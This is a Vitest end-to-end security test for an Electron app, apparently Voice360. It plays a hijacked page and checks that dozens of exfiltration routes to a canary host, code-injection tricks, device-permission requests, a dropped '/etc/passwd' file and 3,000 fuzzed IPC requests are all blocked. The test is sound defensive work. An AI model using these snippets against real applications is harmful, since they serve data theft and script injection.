import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { eventChannels, requestChannels } from '../../src/shared/ipc/channels.ts'
import { SeededRandom } from '../../src/simulator/seeded-random.ts'
import { enliven, hostileRequest } from '../fakes/hostile-requests.ts'
import { startCanaryServer } from './canary-server.ts'
import { ask, type DrivenApp, launchApp, makeUserDataFolder } from './launch-app.ts'
import { piecesOf } from './traces.ts'
import { startVoice360, type Voice360ForTest } from './voice360-for-test.ts'

/** For the attempts: puts an element into the page. */
const add =
  'const add = (name, properties) => { const element = Object.assign(document.createElement(name), properties); document.body.append(element); return element };'

const idsIn = (text: string): readonly string[] =>
  text.match(/[\da-f]{8}-(?:[\da-f]{4}-){3}[\da-f]{12}/g) ?? []
const requestCount = 3_000
const ownPage = /^app:\/\/v360\/index\.html#?$/

/**
 * What would change this very machine (who opens its links, what starts with it, what it connects to), ends the application that is
 * asked, or waits for somebody at a dialog.
 */
const unsafe =
  /^(start:|startup:set|backup:|updates:install|session:(sign-out|switch)|links:|reach:choose-tunnel)/

describe('a page that was taken over', () => {
  const userData = makeUserDataFolder()
  let canary: Awaited<ReturnType<typeof startCanaryServer>>
  let voice360: Voice360ForTest
  let app: DrivenApp
  beforeAll(async () => {
    canary = await startCanaryServer()
    voice360 = await startVoice360()
    app = await launchApp(userData.folder, voice360.apiUrl)
    await voice360.welcome(app)
    await app.electron.evaluate(({ shell }) => {
      const opened: string[] = []
      shell.openExternal = (url) => Promise.resolve(void opened.push(url))
      Object.assign(globalThis, { opened })
    })
  })
  afterAll(async () => {
    await app.quit()
    await voice360.stop()
    canary.stop()
    userData.remove()
  })

  const windowCount = () => app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)
  /** By the page itself and later: while a debugger evaluates, more is allowed. Nothing of it may fail aloud. */
  const attempt = (code: string) =>
    app.main.evaluate(
      `new Promise((resolve) => setTimeout(async () => { try { resolve(String(await (async () => { ${add} ${code} })())) } catch (error) { resolve(String(error)) } }))`
    )

  it.each([
    ['an image', `new Image().src = 'http://HOST/'`],
    ['a style sheet', `add('link', { rel: 'stylesheet', href: 'http://HOST/' })`],
    ['a background', `document.body.style.backgroundImage = 'url(http://HOST/)'`],
    ['a font', `await new FontFace('x', 'url(http://HOST/)').load()`],
    ['a script', `add('script', { src: 'http://HOST/' })`],
    ['a prefetch', `add('link', { rel: 'prefetch', href: 'http://HOST/' })`],
    ['a preload', `add('link', { rel: 'preload', as: 'image', href: 'http://HOST/' })`],
    ['a module preload', `add('link', { rel: 'modulepreload', href: 'http://HOST/' })`],
    ['a preconnection', `add('link', { rel: 'preconnect', href: 'http://HOST/' })`],
    ['an icon', `add('link', { rel: 'icon', href: 'http://HOST/' })`],
    ['a manifest', `add('link', { rel: 'manifest', href: 'http://HOST/' })`],
    ['a video', `const video = add('video', { src: 'http://HOST/' }); await video.play()`],
    ['an object', `add('object', { data: 'http://HOST/' })`],
    ['an embedded one', `add('embed', { src: 'http://HOST/' })`],
    ['a frame', `add('iframe', { src: 'http://HOST/' })`],
    ['a picture in SVG', `add('div', {}).append(svg('image', { href: 'http://HOST/' }))`],
    ['fetch', `await fetch('http://HOST/', { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true })`],
    [
      'XMLHttpRequest',
      `const request = new XMLHttpRequest(); request.open('GET', 'http://HOST/'); request.send()`
    ],
    ['a beacon', `navigator.sendBeacon('http://HOST/', 'x')`],
    ['an event source', `new EventSource('http://HOST/')`],
    ['a WebSocket', `new WebSocket('ws://HOST/')`],
    ['WebTransport', `await new WebTransport('https://HOST/').ready`],
    ['a worker', `new Worker('http://HOST/')`],
    ['a worker out of a blob', `new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/')"])))`],
    ['a service worker', `await navigator.serviceWorker.register('http://HOST/')`],
    ['a ping', `add('a', { href: '#', ping: 'http://HOST/' }).click()`],
    [
      'WebRTC',
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }, { urls: ['turn:HOST', 'turn:HOST?transport=tcp'], username: 'x', credential: 'x' }] });
       peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());
       await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 1_000) })`
    ],
    ['a link', `add('a', { href: 'http://HOST/' }).click()`],
    ['a link to a new window', `add('a', { href: 'http://HOST/', target: '_blank' }).click()`],
    ['a download', `add('a', { href: 'http://HOST/', download: 'x' }).click()`],
    ['a new window', `window.open('http://HOST/')`],
    ['a location', `location.href = 'http://HOST/'`],
    ['a replaced location', `location.replace('http://HOST/')`],
    ['a form', `const form = add('form', { action: 'http://HOST/', method: 'post' }); form.submit()`],
    [
      'a form in a new window',
      `const form = add('form', { action: 'http://HOST/', target: '_blank' }); form.submit()`
    ],
    ['a refresh', `add('meta', { httpEquiv: 'refresh', content: '0;url=http://HOST/' })`],
    ['a base', `add('base', { href: 'http://HOST/' }); new Image().src = 'x.png'`],
    ['an imported module', `await import('http://HOST/')`]
  ])('reaches nobody outside by %s', async (_way, code) => {
    const windowsBefore = await windowCount()
    await attempt(
      `const svg = (name, attributes) => { const element = document.createElementNS('http://www.w3.org/2000/svg', 'svg').appendChild(document.createElementNS('http://www.w3.org/2000/svg', name)); for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value); return element.parentNode };
       ${code.replaceAll('HOST', canary.host)}`
    )
    await ask(app.main, 'session:get-host', {})
    expect(app.main.url()).toMatch(ownPage)
    expect(await windowCount()).toBe(windowsBefore)
    expect(canary.visits).toEqual([])
  })

  it.each([
    ['eval', `eval('window.ran = true')`],
    ['a function made of text', `new Function('window.ran = true')()`],
    ['a timer with text', `setTimeout('window.ran = true')`],
    ['a script element', `add('script', { text: 'window.ran = true' })`],
    ['a script of a data URL', `add('script', { src: 'data:text/javascript,window.ran = true' })`],
    ['a script of a blob', `add('script', { src: URL.createObjectURL(new Blob(['window.ran = true'])) })`],
    ['an imported data URL', `await import('data:text/javascript,window.ran = true')`],
    ['markup', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">')`],
    ['an attribute', `add('img', {}).setAttribute('onerror', 'window.ran = true')`],
    ['a javascript: link', `add('a', { href: 'javascript:window.ran = true' }).click()`],
    ['a javascript: frame', `add('iframe', { src: 'javascript:parent.ran = true' })`],
    [
      'a document in a frame',
      `add('iframe', {}).setAttribute('srcdoc', '<script>parent.ran = true</script>')`
    ],
    ['a written document', `document.write('<script>window.ran = true</script>')`],
    ['a policy of its own', `trustedTypes.createPolicy('default', { createHTML: (text) => text })`],
    ['a worker', `new Worker('data:text/javascript,postMessage(1)').onmessage = () => { window.ran = true }`],
    [
      'WebAssembly',
      `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); window.ran = true`
    ]
  ])('makes no code of %s', async (_way, code) => {
    await attempt(code)
    await ask(app.main, 'session:get-host', {})
    expect(await app.main.evaluate('window.ran')).toBeUndefined()
  })

  it.each([
    ['an empty frame', `add('iframe', {})`],
    [
      'a frame with a document',
      `(() => { const frame = add('iframe', {}); try { frame.srcdoc = '<p>x' } catch {} return frame })()`
    ],
    ['a sandboxed frame', `add('iframe', { sandbox: 'allow-scripts allow-same-origin allow-popups' })`],
    ['a frame of ours', `add('iframe', { src: 'app://v360/popup.html' })`]
  ])('gives %s nothing to ask with, neither attached nor detached', async (_what, frame) => {
    const seen = await attempt(
      `const frame = ${frame}; const inner = frame.contentWindow; await new Promise((resolve) => setTimeout(resolve, 50));
       const look = () => { try { return [typeof inner.voice360, typeof inner.require] } catch { return ['undefined', 'undefined'] } };
       const attached = look(); frame.remove(); return [...attached, ...look()].join()`
    )
    expect(seen).toBe('undefined,undefined,undefined,undefined')
  })

  it.each([
    ['the camera', `await navigator.mediaDevices.getUserMedia({ video: true })`],
    ['the microphone', `await navigator.mediaDevices.getUserMedia({ audio: true })`],
    ['the screen', `await navigator.mediaDevices.getDisplayMedia()`],
    [
      'the place',
      `await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))`
    ],
    ['notifications', `if (await Notification.requestPermission() !== 'granted') throw 0`],
    ['MIDI', `await navigator.requestMIDIAccess({ sysex: true })`],
    ['HID', `if ((await navigator.hid.requestDevice({ filters: [] })).length === 0) throw 0`],
    ['a serial port', `await navigator.serial.requestPort()`],
    ['USB', `await navigator.usb.requestDevice({ filters: [] })`],
    ['the clipboard', `await navigator.clipboard.readText()`],
    [
      'the full screen',
      `await Promise.race([document.body.requestFullscreen(), new Promise((resolve) => setTimeout(resolve, 300))]); if (!document.fullscreenElement) throw 0`
    ],
    [
      'the pointer',
      `document.body.requestPointerLock(); await new Promise((resolve) => setTimeout(resolve, 100)); if (!document.pointerLockElement) throw 0`
    ],
    ['idleness', `if (await IdleDetector.requestPermission() !== 'granted') throw 0`],
    ['the screen kept awake', `await navigator.wakeLock.request()`],
    ['the fonts', `if ((await queryLocalFonts()).length === 0) throw 0`],
    ['an answer from a box that holds everything up', `if (!confirm('x')) throw 0`]
  ])('is denied %s', async (_what, code) => {
    expect(
      await attempt(
        `const got = await (async () => { ${code} })().then(() => 'granted', () => 'denied'); return got`
      )
    ).toBe('denied')
  })

  it('stays where it is when something is dropped on it', async () => {
    const session = await app.electron.context().newCDPSession(app.main)
    for (const url of [`http://${canary.host}/`, 'file:///etc/passwd', 'app://v360/popup.html']) {
      const data = {
        items: [{ mimeType: 'text/uri-list', data: url }],
        files: ['/etc/passwd'],
        dragOperationsMask: 1
      }
      for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
        await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data })
      }
    }
    await session.detach()
    await ask(app.main, 'session:get-host', {})
    expect(app.main.url()).toMatch(ownPage)
  })

  it('asks 3,000 times, and calls nobody, opens nothing but https, and learns no piece of the key', async () => {
    const random = new SeededRandom(9)
    const channels = requestChannels.filter((channel) => !unsafe.test(channel))
    await app.main.evaluate(
      `(() => {
        window.enliven = ${enliven.toString()};
        window.heard = [];
        for (const channel of ${JSON.stringify(eventChannels)}) window.voice360.subscribe(channel, (payload) => window.heard.push(JSON.stringify(payload)));
      })()`
    )
    let ids: readonly string[] = []
    for (let asked = 0; asked < requestCount; asked += 1_000) {
      const shown = await ask(app.main, 'dialing:propose-dial', { text: '+12125550199' })
      const requests = Array.from({ length: 1_000 }, () => hostileRequest(random, ids, channels))
      const crossed: readonly string[] = await app.main.evaluate(
        `Promise.all(${JSON.stringify(requests).replaceAll('__proto__', '\\u005f_proto__')}.map(async ({ channel, args }) => {
          try { return JSON.stringify(await window.voice360.request(channel, window.enliven(args))) } catch (error) { return String(error) }
        })).then((answers) => [...answers, ...window.heard.splice(0)].map(String))`
      )
      const all = crossed.join('\n')
      expect(piecesOf(voice360.key).filter((piece) => all.includes(piece))).toEqual([])
      ids = idsIn(all)
        .filter((id) => id !== shown.id)
        .slice(-50)
    }
    expect(await voice360.posted('/call/outbound')).toEqual([])
    const opened = await app.electron.evaluate(() => Reflect.get(globalThis, 'opened'))
    expect(opened).toEqual([])
    expect(await app.main.evaluate(`Object.keys(Object.prototype).length + ({}).polluted`)).toBe(Number.NaN)
    expect(
      await app.electron.evaluate(({ app: main }) => [
        Reflect.ownKeys(Object.prototype).includes('polluted'),
        main.getAppMetrics().every(({ memory }) => memory.workingSetSize < 1_000_000)
      ])
    ).toEqual([false, true])
    expect(await ask(app.main, 'session:get-session', {})).toMatchObject({ status: 'signed-in' })
  })
})
